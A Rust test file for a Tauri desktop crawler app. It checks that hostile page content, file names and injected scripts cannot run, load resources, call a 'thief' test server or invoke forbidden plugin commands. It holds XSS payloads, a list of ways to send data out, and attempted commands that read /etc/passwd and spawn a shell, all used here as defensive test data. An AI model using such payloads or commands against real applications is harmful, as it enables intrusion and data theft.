//! Pages that want to run scripts or load something, in every view of the real window; and what a
//! script could do there if one got in.

use std::{fs, path::Path};

use foresite_tests::{Site, hostile_site, payloads};
use serde_json::{Value, json};

use crate::window::Window;

/// Everything in the window that is alive and not ours: elements that load or lead somewhere,
/// handlers, and addresses of the site that wants to be asked.
const LOOK: &str = r#"
    const thief = arguments[0];
    const alive = ['iframe', 'object', 'embed', 'base', 'form[action]', 'video', 'audio', 'math',
        'meta[http-equiv=refresh]', 'link:not([href^="/assets/"], [href^="tauri://localhost/assets/"], [href="data:,"])', 'img'];
    const found = [...document.querySelectorAll(alive.join())].map(one => one.outerHTML);
    for (const element of document.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
            const leads = /^(src|srcset|href|xlink:href|data|poster|action|formaction|ping|style)$/i;
            const isHostile = value.includes(thief) || /^\s*(javascript|data:text)/i.test(value);
            if (/^on/i.test(name) || (leads.test(name) && isHostile)) found.push(element.outerHTML);
        }
    }
    return { ran: window.ran ?? null, found, place: location.protocol, title: document.title };
"#;

async fn is_unharmed(window: &Window, thief: &str, view: &str) {
    let seen = window.run(LOOK, vec![thief.into()]).await;
    let expected = json!({ "ran": null, "found": [], "place": "tauri:", "title": "Foresite" });
    assert_eq!(seen, expected, "{view}");
}

/// Waits until the panel of an item shows something.
async fn panel_is_there(window: &Window, view: &str) {
    let script = "return document.querySelector('aside [role=tabpanel], [role=tabpanel]:last-of-type')?.innerText.length > 0";
    window
        .wait(view, async || {
            Ok((window.run(script, Vec::new()).await == true).then_some(()))
        })
        .await;
}

/// Waits until a text stands in the window as it is, also where it is too long to be seen.
async fn holds(window: &Window, text: &str) {
    let script = "return document.body.textContent.includes(arguments[0])";
    window
        .wait(text, async || {
            let holds = window.run(script, vec![text.into()]).await;
            Ok((holds == true).then_some(()))
        })
        .await;
}

/// The items that have a page, and a few of each other kind.
async fn ids_of_items(window: &Window) -> Vec<u64> {
    let script = "const done = arguments[arguments.length - 1];
        window.__TAURI_INTERNALS__.invoke('item_page', {instance: 1, query: {limit: 500}, foundBy: null})
            .then(page => done(page.rows.filter((row, place) => place < 6 || row.url.includes('/page/'))
                .map(row => row.id)), error => done(error))";
    let ids = window.run_until_answer(script, Vec::new()).await;
    let ids = ids.as_array().unwrap_or_else(|| panic!("no items: {ids}"));
    ids.iter().filter_map(Value::as_u64).collect()
}

const ITEM_TABS: [&str; 7] = [
    "why", "response", "markdown", "chunks", "metadata", "links", "html",
];

#[tokio::test]
async fn nothing_of_a_page_runs_or_loads_in_any_view() {
    let thief = Site::builder().start().await;
    let origin = thief.origin().to_owned();
    let site = hostile_site(&origin).start().await;
    let window = Window::open().await;
    window.fill("start-url", site.origin()).await;
    window.press_enter("start-url").await;
    window.click("owned").await;
    window.click("submit").await;
    window.wait_for_text("instance-state", "Completed").await;
    is_unharmed(&window, &origin, "overview").await;

    let ids = ids_of_items(&window).await;
    assert!(ids.len() > payloads(&origin).len(), "{}", ids.len());
    window.go("#/instances/1/items").await;
    holds(&window, "<script>window.ran=1").await;
    is_unharmed(&window, &origin, "items").await;
    // Each page with its Markdown drawn; the first ones in every other way, too.
    for (place, id) in ids.iter().enumerate() {
        window.go(&format!("#/instances/1/items?item={id}")).await;
        let all = if place % 6 == 0 {
            &ITEM_TABS[..]
        } else {
            &["markdown"]
        };
        for tab in all {
            let view = format!("item {id}, {tab}");
            window.click(&format!("item-tab-{tab}")).await;
            panel_is_there(&window, &view).await;
            if *tab == "markdown" {
                let draw = "[...document.querySelectorAll('[role=tab]')].find(tab => tab.textContent === 'Preview')?.click()";
                window.run(draw, Vec::new()).await;
            }
            is_unharmed(&window, &origin, &view).await;
        }
        if place == 0 {
            window.keep_picture("hostile-item").await;
        }
    }
    for (view, shown) in [
        ("jobs", "job-log"),
        ("settings", "patterns-kept"),
        ("overview", "answer"),
    ] {
        window.go(&format!("#/instances/1/{view}")).await;
        window.find(shown).await;
        is_unharmed(&window, &origin, view).await;
    }
    window.go("#/instances/1/playground").await;
    window.fill("search", "hostile").await;
    window.find("results").await;
    is_unharmed(&window, &origin, "playground").await;

    window.go("#/instances/1/settings").await;
    window.click("try-robots").await;
    window.wait_for_text("robots-blocks", "Blocks").await;
    is_unharmed(&window, &origin, "robots").await;
    window.click("robots-close").await;

    window.go("#/instances/1/sitemaps").await;
    window.click("audit-start").await;
    window.find("findings").await;
    window.click("finding").await;
    window.find("source").await;
    is_unharmed(&window, &origin, "sitemaps").await;
    window.keep_picture("hostile-sitemaps").await;
    window.close().await;

    assert_eq!(thief.paths(), [""; 0]);
    // The site itself was asked by the crawler alone, never by the window.
    for hit in site.hits() {
        let agent = hit.header("user-agent").unwrap_or_default();
        assert!(agent.starts_with("Cloudflare-AI-Search"), "{hit:?}");
    }
}

#[tokio::test]
async fn names_and_texts_of_local_files_are_shown_as_text() {
    let thief = Site::builder().start().await;
    let origin = thief.origin();
    let folder = tempfile::tempdir().unwrap();
    let entries = payloads(origin).into_iter().map(|payload| {
        let text = payload.replace('&', "&amp;").replace('<', "&lt;");
        format!("<url><loc>{text}</loc><lastmod>{text}</lastmod></url>\n")
    });
    let hostile: String = entries.collect();
    let urlset = "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n";
    let name = "sitemap-<img src=x onerror=window.ran=1>.xml";
    fs::write(
        folder.path().join(name),
        format!("{urlset}{hostile}</urlset>\n"),
    )
    .unwrap();
    fs::write(
        folder.path().join("robots.txt"),
        "<script>window.ran=1</script>\n",
    )
    .unwrap();
    let window = Window::open_with(&[folder.path() as &Path]).await;
    window.wait_for_text("audit-summary", "2 files").await;
    holds(&window, "<img src=x onerror").await;
    for finding in 0..window.all("finding").await.len() {
        let view = format!("finding {finding}");
        let chosen = &window.all("finding").await[finding];
        chosen.click().await.unwrap();
        window.find("finding-detail").await;
        is_unharmed(&window, origin, &view).await;
    }
    window.close().await;
    assert_eq!(thief.paths(), [""; 0]);
}

/// Ways out of the window for a script that runs in it. Each is refused by the policy of the
/// window's pages, which tells so.
const WAYS_OUT: &str = r#"
    const [at, done] = [arguments[0], arguments[arguments.length - 1]];
    const refused = new Set();
    document.addEventListener('securitypolicyviolation', event => refused.add(event.effectiveDirective));
    const add = (name, attributes) => document.body.append(
        Object.assign(document.createElement(name), attributes));
    const attempt = (...ways) => ways.forEach(way => { try { way(); } catch {} });
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = 1';
    const form = Object.assign(document.createElement('form'), { action: at + '/form', method: 'post' });
    attempt(
        () => document.body.append(inline),
        () => document.body.insertAdjacentHTML('beforeend', '<p onclick="window.ran=1" class=hostile>x</p>'),
        () => document.querySelector('.hostile').click(),
        () => (0, eval)('window.ran = 1'),
        () => new Function('window.ran = 1')(),
        () => add('script', { src: at + '/script' }),
        () => add('img', { src: at + '/image' }),
        () => add('link', { rel: 'stylesheet', href: at + '/sheet' }),
        () => add('iframe', { src: at + '/frame' }),
        () => add('object', { data: at + '/object' }),
        () => add('video', { src: at + '/video' }),
        () => new FontFace('x', `url(${at}/font)`).load().catch(() => {}),
        () => fetch(at + '/fetch').catch(() => {}),
        () => { const asked = new XMLHttpRequest(); asked.open('GET', at + '/xhr'); asked.send(); },
        () => new WebSocket(at.replace('http', 'ws') + '/socket'),
        () => new EventSource(at + '/events'),
        () => navigator.sendBeacon(at + '/beacon', 'x'),
        () => new Worker(URL.createObjectURL(new Blob([`fetch('${at}/worker')`]))),
        () => { document.body.append(form); form.submit(); },
        () => window.open(at + '/open'),
        () => { location.href = at + '/navigate'; },
        () => { location.href = 'javascript:window.ran=1'; },
    );
    const wanted = ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'frame-src',
        'object-src', 'media-src', 'font-src', 'connect-src', 'worker-src', 'form-action'];
    const end = Date.now() + 8000;
    const look = () => {
        const missing = wanted.filter(name => !refused.has(name));
        if (missing.length > 0 && Date.now() < end) return setTimeout(look, 50);
        done({ ran: window.ran ?? null, place: location.protocol, missing });
    };
    look();
"#;

/// Commands of Tauri and its plugins, none of which the window may call.
const FOREIGN_COMMANDS: &str = r"
    const done = arguments[arguments.length - 1];
    const commands = [
        ['plugin:dialog|open', { options: { multiple: false } }],
        ['plugin:dialog|save', { options: {} }],
        ['plugin:dialog|message', { message: 'x' }],
        ['plugin:fs|read_text_file', { path: '/etc/passwd' }],
        ['plugin:shell|execute', { program: 'sh', args: [] }],
        ['plugin:event|listen', { event: 'x', target: { kind: 'Any' }, handler: 1 }],
        ['plugin:event|emit', { event: 'x', payload: null }],
        ['plugin:webview|create_webview_window', { options: { label: 'x', url: 'https://example.com' } }],
        ['plugin:window|close', { label: 'main' }],
        ['plugin:path|resolve_directory', { directory: 21 }],
        ['plugin:app|version', {}],
        ['audit_run_files', { paths: ['/etc/passwd'], channel: '__CHANNEL__:1' }],
    ];
    Promise.all(commands.map(([name, body]) => window.__TAURI_INTERNALS__.invoke(name, body)
        .then(() => name, () => null))).then(allowed => done(allowed.filter(name => name !== null)));
";

#[tokio::test]
async fn a_script_in_the_window_would_get_nowhere() {
    let thief = Site::builder().start().await;
    let window = Window::open().await;
    window.find("start-url").await;
    let allowed = window.run_until_answer(FOREIGN_COMMANDS, Vec::new()).await;
    assert_eq!(allowed, json!([]));
    let tried = window
        .run_until_answer(WAYS_OUT, vec![thief.origin().into()])
        .await;
    assert_eq!(
        tried,
        json!({ "ran": null, "place": "tauri:", "missing": [] })
    );
    // The window is still where it was, and of use.
    window.fill("start-url", "https://example.com").await;
    window.close().await;
    assert_eq!(thief.paths(), [""; 0]);
}
